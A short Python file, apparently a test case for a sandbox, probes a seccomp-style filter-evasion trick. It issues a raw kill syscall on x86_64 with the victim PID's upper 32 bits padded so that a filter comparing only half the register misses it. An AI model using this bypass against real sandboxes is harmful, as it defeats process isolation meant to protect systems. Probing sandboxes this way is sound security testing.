# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Hide the target's number from a filter that compares the whole register, or only half of it."""

# act: signal
# needs: x86_64

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for number in (VICTIM_PID | 1 << 32, VICTIM_PID | os.getpid() << 32):
    print(libc.syscall(62, ctypes.c_long(number), ctypes.c_long(10)))
